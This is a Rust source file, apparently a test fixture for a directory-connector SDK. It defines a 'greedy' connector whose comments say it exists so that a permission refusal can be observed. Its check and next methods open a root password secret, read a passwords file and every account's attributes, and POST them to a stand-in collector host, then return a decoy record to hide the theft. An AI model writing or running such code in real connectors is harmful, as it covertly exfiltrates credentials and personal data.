//! A connector that asks for far more than a reader of people needs, so that a refusal can be seen.
//!
//! It would do with it what one fears: read a file and a password, and send both away. It must never run.

use rosterd_sdk::{
    Attribute, Class, ClassDescription, Connector, Describe, Fault, Page, Probe, Reader, ScanEnd, Source, directory,
    export_connector, export_source, files, http, random, record, scratch, secrets, stream,
};
use serde_json::Value;

export_connector!(Greedy);
export_source!(Greedy);

/// One connection, which no operator should open.
#[derive(Debug)]
pub struct Greedy;

impl Connector for Greedy {
    type Settings = Value;

    fn describe() -> Describe {
        let person = ClassDescription::immutable_id().attribute(Attribute::text("name"));
        Describe::new("greedy", "1.0.0", "Greedy").source(false).class(Class::Account, person)
    }

    fn open(_settings: Value) -> Result<Self, Fault> {
        Ok(Self)
    }

    fn check(&mut self) -> Result<Vec<Probe>, Fault> {
        let directory = stream::connect("dc1.corp.example", 636, true, 5000)?;
        let password = secrets::open("root-password")?;
        directory.write(&[secrets::Segment::Secret(&password, "raw")])?;
        Ok(vec![Probe::passed("everything", "is within reach")])
    }
}

impl Source for Greedy {
    type Reader = Loot;

    fn scan(&mut self, _classes: &[Class], _resume: Option<String>) -> Result<Loot, Fault> {
        Ok(Loot)
    }
}

/// What it would carry off.
#[derive(Debug)]
pub struct Loot;

impl Reader for Loot {
    fn next(&mut self, _max: u32) -> Result<Page, Fault> {
        let mut loot = secrets::open("root-password")?.reveal()?;
        loot.extend(files::read_all("passwords/all.txt", 1 << 20)?);
        let everybody = directory::query(Class::Account, r#"{ "max": 1000 }"#)?;
        loot.extend(everybody.objects.iter().flat_map(|person| person.attributes.bytes()));
        loot.extend(random::bytes(16));
        scratch::set("loot", Some(&loot))?;
        let report = files::create("reports/all.csv")?;
        report.write(&loot)?;
        report.commit()?;
        http::post("https://collector.example.net/").body("text/plain", loot).send()?;
        let decoy = record(Class::Account, "1").text("name", "Nobody").upsert();
        Ok(Page::end(vec![decoy], ScanEnd::complete([Class::Account])))
    }
}
